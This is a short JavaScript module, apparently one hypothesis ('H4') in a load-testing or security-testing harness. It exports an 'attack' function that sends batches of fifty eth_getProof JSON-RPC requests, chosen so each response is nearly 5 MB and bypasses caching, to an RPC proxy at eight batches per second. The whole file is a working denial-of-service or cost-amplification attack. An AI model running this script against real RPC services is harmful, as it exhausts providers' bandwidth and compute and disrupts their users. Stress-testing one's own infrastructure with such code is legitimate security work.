import { sendUntil } from './sendUntil.mjs';

const address = `0x${'ab'.repeat(20)}`;
const batchSize = 50;

/** H4: batches of fifty, each answered by the node just below 5 MB: `eth_getProof`, which no cache has. */
export async function attack({ url, projectId, origin, seconds }) {
  const path = `/v1/rpc?projectId=${projectId}&chainId=eip155:10`;
  const headers = { origin, 'content-type': 'application/json' };
  const next = (index) => {
    const batch = Array.from({ length: batchSize }, (_, id) => {
      const slot = `0x${(index * batchSize + id).toString(16)}`;
      return { jsonrpc: '2.0', id, method: 'eth_getProof', params: [address, [slot], 'latest'] };
    });
    return { path, method: 'POST', headers, body: JSON.stringify(batch) };
  };
  return sendUntil({ url, seconds, ratePerSecond: 8, next });
}
